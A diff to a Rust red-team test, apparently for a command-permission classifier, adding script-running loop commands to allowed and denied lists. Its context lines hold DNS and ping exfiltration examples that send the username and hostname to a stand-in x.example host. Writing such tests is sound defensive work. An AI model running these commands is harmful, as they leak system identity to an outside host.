@@ -395,6 +395,8 @@ fn red_team_two_classes() {
             "dig $(whoami).x.example",
             "ping -c1 \"$(cat /etc/hostname).x.example\"",
             "screen -X quit",
+            "for f in scripts/*.sh; do bash \"$f\"; done",
+            "for f in scripts/e*.sh; do . \"$f\"; done",
         ],
     );
     denied(
@@ -421,6 +423,7 @@ fn red_team_two_classes() {
             "tmux kill-session -t dev",
             "screen -S mine -X quit",
             "bash --rcfile scripts/x.sh -i",
+            "for f in scripts/x*.sh; do bash \"$f\"; done",
             "go run cmd/main.go",
             "go run ./cmd",
             "go test ./...",
